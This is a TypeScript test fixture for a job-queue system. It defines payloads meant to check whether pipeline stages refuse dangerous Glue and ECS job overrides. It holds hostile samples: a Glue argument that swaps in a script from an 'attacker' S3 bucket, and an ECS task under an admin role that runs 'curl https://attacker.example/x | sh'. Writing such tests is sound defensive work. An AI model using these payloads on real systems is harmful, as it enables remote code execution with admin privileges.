/**
 * The two attacks a queue writer could make before stages decided what a job may override: a Glue job whose arguments
 * swap in another script, and an ECS task under an admin role running a shell command. overrides.test.ts shows the
 * local stage refusing them; overridesAllowed.test.ts a stage that allows exactly these overrides running them.
 */
export const POOL = 'ovr';

export const EVIL_GLUE = {
  kind: 'glue',
  pool: POOL,
  id: 'evil-glue',
  jobName: `${POOL}--etl`,
  arguments: { '--day': '2026-11-22', '--scriptLocation': 's3://attacker/evil.py' },
};

export const EVIL_ECS = {
  kind: 'ecs',
  pool: POOL,
  id: 'evil-ecs',
  cluster: 'sluice-jobs',
  taskDefinition: `${POOL}--report`,
  launchType: 'FARGATE',
  overrides: {
    taskRoleArn: 'arn:aws:iam::000000000000:role/sluice-admin',
    containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl https://attacker.example/x | sh'] }],
  },
};

/** A Glue job whose argument is data, which the local stage allows. */
export const PLAIN_GLUE = { kind: 'glue', pool: POOL, id: 'plain-glue', jobName: `${POOL}--etl`, arguments: { '--day': '2026-11-22' } };
